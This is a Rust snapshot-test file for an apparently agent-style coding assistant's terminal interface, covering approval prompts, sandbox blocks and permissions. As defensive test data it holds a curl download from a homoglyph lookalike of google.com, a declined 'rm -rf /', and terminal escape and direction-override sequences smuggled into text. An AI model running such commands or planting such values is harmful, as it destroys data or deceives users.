//! The main screens at three sizes.

use quire_state::{
    Model,
    boot::Document,
    config::{Anchor, Grant, PermissionProfile, Rule, SandboxMode},
    engine::{Action, ApprovalContext, CallPhase, Queued, RequestedPermissions, Step, turn::OpenItem},
    item::{
        CommandItem, CommandStatus, ItemKind, Level, PermissionsItem, PermissionsStatus, Usage, UserInput, UserOption,
        UserQuestion, UserQuestions, WebSearchItem,
    },
    key::{CallId, ProcessId},
    screen::{Form, Help, Overlay, Question, Scroll, overlay::Status},
};

use ratatui::style::Color;

use super::support::*;
use crate::{Memo, Theme, view};

const SIZES: [(u16, u16); 3] = [(100, 30), (80, 24), (40, 12)];

/// Snapshots a screen at all sizes.
pub(super) fn screens(name: &str, build: impl Fn(&mut Model)) {
    for (cols, rows) in SIZES {
        let mut model = model(cols, rows);
        build(&mut model);
        readable(&model);
        leave(name, &model);
        check(&format!("{name}_{cols}x{rows}"), &picture(&scene(&model)));
    }
}

pub(super) const ANSWER: &str = "\
# Why the test fails

The parser calls `next()` **before** it looks at the bracket, so an *empty* list is read as ~~a hole~~ an error.
See [the grammar](https://example.org/grammar) for what is meant.

1. `parse_list` takes the bracket
   - it never looks back
   - so `[]` has no first element
2. The caller sees `None`

| case | before | after |
|:-----|-------:|:-----:|
| `[]` | error | empty list |
| `[1, 2]` | two elements | two elements |

```rust
fn parse_list(&mut self) -> Option<List> {
    // An empty list is a list.
    if self.peek() == \"]\" { return Some(List::new(0)); }
```

> It is what the grammar says.

- [x] found
- [ ] fixed
";

#[test]
fn an_empty_start() {
    screens("start", |_| {});
}

#[test]
fn a_streaming_answer() {
    screens("answer", |model| {
        push(model, false, user("Why does the test for empty lists fail?"));
        push(
            model,
            false,
            ItemKind::Reasoning { parts: vec!["**Reading the parser**\n\nIt may be the bracket.".into()] },
        );
        push(model, true, agent(ANSWER));
        let item = Some(thread(model).last_item);
        let running = run(model, connected());
        if let Step::Streaming(attempt) = &mut running.step {
            attempt.items.insert(0, OpenItem { item, behind: None, done: false });
        }
        thread(model).last.total_tokens = 41_200;
    });
}

#[test]
fn a_command_is_asked() {
    screens("question", |model| {
        push(model, false, user("Run the tests"));
        push(model, false, agent("I will run the parser's tests first."));
        ask(
            model,
            "cargo test -p parser\u{1b}[2K -- --nocapture",
            Some("The tests need the network to fetch a crate."),
        );
    });
}

#[test]
fn a_command_asks_to_run_outside() {
    screens("question_outside", |model| {
        push(model, false, user("Fetch what is missing"));
        ask_outside(model, &["cargo", "fetch"], "It downloads the crates of Cargo.lock.");
    });
}

#[test]
fn a_host_that_is_not_what_it_looks_like() {
    screens("question_twin", |model| {
        push(model, false, user("Fetch the installer"));
        ask(model, "curl -fsS https://get.g\u{43e}\u{43e}gle.com/install.sh -o install.sh", None);
    });
}

#[test]
fn the_sandbox_was_in_the_way() {
    screens("blocked", |model| {
        let complaint = "touch: cannot touch '/etc/motd': Read-only file system\n";
        let mut kind = command("touch /etc/motd", CommandStatus::Exited { code: 1 }, complaint, Some(12));
        if let ItemKind::Command(command) = &mut kind {
            let sentence = "The sandbox blocked the write to `/etc/motd`: it is outside the writable folders. \
                            `--add-dir /etc` (or sandbox_workspace_write.writable_roots in config.toml) would allow it.";
            command.blocked = Some(sentence.to_owned());
        }
        push(model, false, kind);
    });
}

fn questions() -> Vec<UserQuestion> {
    let option =
        |label: &str, description: &str| UserOption { label: label.to_owned(), description: description.to_owned() };
    vec![
        UserQuestion {
            id: "db".to_owned(),
            header: "Database".to_owned(),
            question: "Where should the ledger keep its entries?".to_owned(),
            options: vec![
                option("SQLite", "One file beside the program, nothing to install."),
                option("Postgres", "A server that several programs can share."),
            ],
        },
        UserQuestion {
            id: "n".to_owned(),
            header: "Name".to_owned(),
            question: "What is it called?".to_owned(),
            options: vec![],
        },
    ]
}

fn put_questions(model: &mut Model) {
    push(model, false, user("Set up the ledger"));
    ask(model, "x", None);
    let call = CallId("c".to_owned());
    let asked = UserQuestions { call, questions: questions(), answers: None };
    let thread = thread(model);
    thread.items.pop();
    let call = thread.running_mut().unwrap().calls.last_mut().unwrap();
    call.phase = CallPhase::AwaitingApproval {
        request: quire_state::key::RequestId(7),
        action: Action::Answers(questions()),
        context: ApprovalContext::default(),
    };
    push(model, true, ItemKind::Questions(asked));
    let form = Form::new(Question::new(7, true), questions());
    screen(model).open(Overlay::Form(form));
}

#[test]
fn the_model_puts_questions() {
    screens("user_input", put_questions);
}

#[test]
fn an_answer_in_own_words() {
    screens("user_input_own", |model| {
        put_questions(model);
        screen(model).question_mut().unwrap().explaining = true;
    });
}

#[test]
fn questions_were_answered() {
    screens("user_input_answered", |model| {
        let call = CallId("c".to_owned());
        let answers = Some(vec!["SQLite".to_owned(), "Ledger \u{1b}[31m".to_owned()]);
        push(model, false, ItemKind::Questions(UserQuestions { call: call.clone(), questions: questions(), answers }));
        push(model, false, ItemKind::Questions(UserQuestions { call, questions: questions(), answers: None }));
    });
}

#[test]
fn a_permission_profile_is_named() {
    screens("profile", |model| {
        ask(model, "cargo build", None);
        let rule = Rule { anchor: Anchor::Workspace, below: String::new(), grant: Grant::Write };
        model.config_mut().sandbox = SandboxMode::WorkspaceWrite;
        model.config_mut().permissions = Some(PermissionProfile {
            name: "care\u{1b}ful".to_owned(),
            rules: vec![rule],
            denied: Vec::new(),
            pattern_depth: None,
            network_access: false,
            local_sockets: false,
        });
        let call = thread(model).running_mut().unwrap().calls.last_mut().unwrap();
        let CallPhase::AwaitingApproval { action, .. } = &mut call.phase else { panic!("nothing is asked") };
        action.confine(true);
    });
}

#[test]
fn the_model_asks_to_reach_further() {
    screens("permissions", |model| {
        ask(model, "x", None);
        let call = thread(model).running_mut().unwrap().calls.last_mut().unwrap();
        let permits = RequestedPermissions {
            write: ["/home/ada/src/other".to_owned()].into(),
            read: ["/opt/data".to_owned()].into(),
            network: true,
            reason: Some("The other crate has to be built first.".to_owned()),
        };
        let action = Action::Permissions(permits);
        call.phase = CallPhase::AwaitingApproval {
            request: quire_state::key::RequestId(7),
            action,
            context: ApprovalContext::default(),
        };
    });
}

#[test]
fn a_question_that_does_not_fit_counts_what_is_hidden() {
    screens("question_long", |model| {
        let text: String = (1..=60).map(|line| format!("echo line {line} of a long script\n")).collect();
        ask(model, text.trim_end(), None);
        screen(model).question_mut().unwrap().focused = false;
    });
}

#[test]
fn a_long_question_can_be_read_in_the_transcript() {
    let mut model = model(80, 24);
    let text: String = (1..=60).map(|line| format!("echo line {line} of a long script\n")).collect();
    ask(&mut model, text.trim_end(), None);
    screen(&mut model).details = true;
    screen(&mut model).scroll = Scroll::Up(10);
    check("question_long_details_80x24", &picture(&scene(&model)));
}

#[test]
fn commands() {
    screens("commands", |model| {
        let output: String = (1..=40).map(|line| format!("test parser::case_{line} ... ok\n")).collect();
        push(model, false, command("cargo test -p parser", CommandStatus::Exited { code: 0 }, &output, Some(4_321)));
        push(model, false, command("false", CommandStatus::Exited { code: 1 }, "", Some(3)));
        push(
            model,
            false,
            command(
                "rm -rf /",
                CommandStatus::Declined { reason: "Not run: the user declined it and said: use git clean".into() },
                "",
                None,
            ),
        );
        let progress = "   Compiling parser v0.1.0\r\n\x1b[32mBuilding\x1b[0m 1/9\rBuilding 7/9";
        push(model, true, command("cargo build\ncargo doc", CommandStatus::Running, progress, None));
        run(model, Step::RunningTools);
    });
}

#[test]
fn commands_that_did_not_run_or_were_ended() {
    screens("commands_ended", |model| {
        let declined = |reason: &str| CommandStatus::Declined { reason: reason.to_owned() };
        let by_rule = "Not run: a rule forbids `curl` (/home/ada/.codex/rules/default.rules:3). Use the API client.";
        push(model, false, command("curl example.org", declined(by_rule), "", None));
        push(model, false, command("touch a", declined("Not run: the user declined it."), "", None));
        push(model, false, command("touch b", CommandStatus::Aborted, "", None));
        let session = ProcessId(1);
        let serve = |status, output, wall_ms| match command("serve --all", status, output, wall_ms) {
            ItemKind::Command(command) => ItemKind::Command(CommandItem { process: Some(session), ..command }),
            other => other,
        };
        push(model, false, serve(CommandStatus::Background { process: session }, "ready\n", None));
        push(model, false, serve(CommandStatus::Aborted, "", Some(57_000)));
        let failed = "touch: cannot touch '/etc/x': Read-only file system\n";
        let mut twice = command("touch /etc/x", declined("Not run: the user declined it."), failed, None);
        if let ItemKind::Command(command) = &mut twice {
            command.blocked = Some("The sandbox blocked the write to `/etc/x`.".to_owned());
        }
        push(model, false, twice);
    });
}

#[test]
fn calls_that_a_sentence_tells_of() {
    screens("told_calls", |model| {
        let search = |query: &str, done: &str, failed| {
            ItemKind::WebSearch(WebSearchItem { query: query.to_owned(), done: done.to_owned(), failed })
        };
        push(model, false, search("rust pty", "Searched the web: rust pty", false));
        let url = "https://docs.rs/pty";
        push(model, false, search(url, &format!("Opened {url}"), false));
        push(model, false, search(url, &format!("The web search failed: {url}"), true));
        let wishes = r#"{"reason":"The build writes its cache there.","permissions":{"network":{"enabled":true}}}"#;
        let asked = |status| ItemKind::Permissions(PermissionsItem { arguments: wishes.to_owned(), status });
        let granted =
            "Granted for this session: the network · write below /home/ada/src/other · read /opt/da\u{1b}[2Kta";
        push(model, false, asked(PermissionsStatus::Granted { text: granted.to_owned() }));
        let reason = "Not run: the user declined it.".to_owned();
        push(model, false, asked(PermissionsStatus::Declined { reason }));
        push(model, true, asked(PermissionsStatus::Asking));
    });
}

#[test]
fn a_plan() {
    screens("plan", |model| {
        push(model, false, user("Fix it, please.\nAnd write a test."));
        push(model, true, plan());
        let item = Some(thread(model).last_item);
        run(model, connected()).plan = item;
    });
}

#[test]
fn errors() {
    screens("errors", |model| {
        let text = "The answer was cut off by the server. Retrying.";
        push(model, false, ItemKind::Note { level: Level::Warning, text: text.into() });
        let text = "The server rejected the key (401). Check the variable `OPENAI_API_KEY`.";
        push(model, false, ItemKind::Note { level: Level::Error, text: text.into() });
        push(model, false, ItemKind::Note { level: Level::Info, text: "Session resumed.".into() });
        push(model, false, ItemKind::TurnEnd { worked_ms: 12_000, ended: Some(602), tokens: 18_400 });
        let attempt = quire_state::engine::Attempt::default();
        let reason = "The server is overloaded (503).".to_owned();
        run(model, Step::Waiting { timer: 1, until_ms: 63_000, reason, attempt });
        screen(model).exit_armed_until_ms = Some(61_000);
    });
}

#[test]
fn queued_and_steering_inputs() {
    screens("queue", |model| {
        let parts = vec!["**Reading the parser**\n\nIt may be the bracket.\nOr the list.".to_owned()];
        push(model, false, ItemKind::Reasoning { parts });
        push(model, true, agent("I am looking at the parser now"));
        run(model, connected()).steer.push(UserInput::text("Only the list parser"));
        for text in ["Then write the change log\nand the tests", "Commit it", "Push it"] {
            thread(model).queue.push_back(Queued { input: UserInput::text(text) });
        }
        screen(model).composer.insert_str("and");
    });
}

#[test]
fn help() {
    screens("help", |model| {
        push(model, false, agent(ANSWER));
        screen(model).open(Overlay::Help(Help::default()));
    });
}

#[test]
fn status() {
    screens("status", |model| {
        push(model, false, agent(ANSWER));
        let thread = thread(model);
        let usage = Usage { input_tokens: 81_300, output_tokens: 3_200, total_tokens: 84_500, ..Usage::default() };
        (thread.total, thread.last) = (usage, Usage { total_tokens: 54_400, ..Usage::default() });
        let documents = [("/home/ada/.codex/AGENTS.md", true), ("/home/ada/src/engine/AGENTS.md", false)];
        let documents = documents.map(|(path, is_global)| Document {
            path: path.to_owned(),
            text: "Be short.\n".to_owned(),
            is_global,
        });
        let settings = std::sync::Arc::make_mut(&mut thread.settings);
        std::sync::Arc::make_mut(&mut settings.host).documents = documents.to_vec();
        screen(model).open(Overlay::Status(Status::default()));
    });
}

#[test]
fn a_long_draft() {
    screens("draft", |model| {
        push(model, false, agent("What shall I do?"));
        let text: String =
            (1..=20).map(|line| format!("{line}. a line of the draft that says what is wanted\n")).collect();
        screen(model).composer.insert_str(&text);
        screen(model).composer.insert_str("日本語の下書き end");
    });
}

#[test]
fn scrolled_up() {
    screens("scrolled", |model| {
        for at in 0..40 {
            push(model, false, agent(&format!("Answer number {at}")));
        }
        screen(model).scroll = Scroll::Up(21);
    });
}

#[test]
fn details() {
    screens("details", |model| {
        let parts = vec!["**Reading**\n\nIt may be the bracket.".to_owned(), "**Deciding**\n\nIt is.".to_owned()];
        push(model, false, ItemKind::Reasoning { parts });
        let output: String = (1..=8).map(|line| format!("line {line}\n")).collect();
        push(model, false, command("seq 8", CommandStatus::Exited { code: 0 }, &output, None));
        screen(model).details = true;
    });
}

#[test]
fn styles_of_an_answer_and_a_question() {
    let mut one = model(80, 40);
    push(&mut one, false, user("Why?"));
    push(&mut one, false, agent(ANSWER));
    check("answer_styles", &styles(&scene(&one).buffer));
    let dark = view(&one, &mut Memo::default(), &Theme::dark());
    let shade = Theme::dark().surface.bg;
    assert!((0..80).all(|x| Some(dark.buffer[(x, 4)].bg) == shade), "the user's words are shaded whole");
    let plain = view(&one, &mut Memo::default(), &Theme::plain());
    assert!(plain.buffer.content.iter().all(|cell| cell.fg == Color::Reset && cell.bg == Color::Reset));
    let mut two = model(80, 24);
    ask(&mut two, "printf '\u{202e}\u{1b}[2J'", None);
    check("question_styles", &styles(&scene(&two).buffer));
}

#[test]
fn nothing_depends_on_colour_alone() {
    let command = |status| command("make", status, "out\n", None);
    let note = |level| ItemKind::Note { level, text: "It is so.".to_owned() };
    let kinds = [
        command(CommandStatus::Running),
        command(CommandStatus::AwaitingApproval),
        command(CommandStatus::Background { process: ProcessId(1) }),
        command(CommandStatus::Exited { code: 0 }),
        command(CommandStatus::Exited { code: 2 }),
        command(CommandStatus::Aborted),
        note(Level::Info),
        note(Level::Warning),
        note(Level::Error),
    ];
    let painted = kinds.map(|kind| {
        let mut model = model(80, 24);
        push(&mut model, false, kind);
        rows(&view(&model, &mut Memo::default(), &Theme::dark()).buffer).join("\n")
    });
    for (at, one) in painted.iter().enumerate() {
        assert!(painted[..at].iter().all(|other| one != other), "{one}");
    }
    // What is reached, and how much room is left, have their words beside their colours.
    let reached = [SandboxMode::ReadOnly, SandboxMode::WorkspaceWrite, SandboxMode::DangerFullAccess].map(|sandbox| {
        let mut model = model(100, 30);
        model.config_mut().sandbox = sandbox;
        rows(&view(&model, &mut Memo::default(), &Theme::dark()).buffer).join("\n")
    });
    for (screen, words) in reached.iter().zip(["read-only", "workspace-write", "no sandbox"]) {
        assert!(screen.contains(words), "{screen}");
    }
}

#[test]
fn room_that_gets_short_is_amber_and_then_red() {
    for (theme, used, words, style) in [
        (Theme::dark(), 100_000, "64% context left", None),
        (Theme::dark(), 220_000, "20% context left", None),
        (Theme::dark(), 222_000, "19% context left", Theme::dark().warning.fg),
        (Theme::light(), 262_000, "4% context left", Theme::light().error.fg),
    ] {
        let mut model = model(100, 30);
        thread(&mut model).last.total_tokens = used;
        let buffer = view(&model, &mut Memo::default(), &theme).buffer;
        let rows = rows(&buffer);
        let y = rows.iter().position(|row| row.contains(words)).unwrap_or_else(|| panic!("{words}: {rows:?}"));
        let x = rows[y].chars().take_while(|letter| *letter != '%').count();
        let cell = &buffer[(u16::try_from(x).unwrap(), u16::try_from(y).unwrap())];
        assert_eq!(Some(cell.fg), style.or(Some(Color::Reset)), "{words}");
    }
}
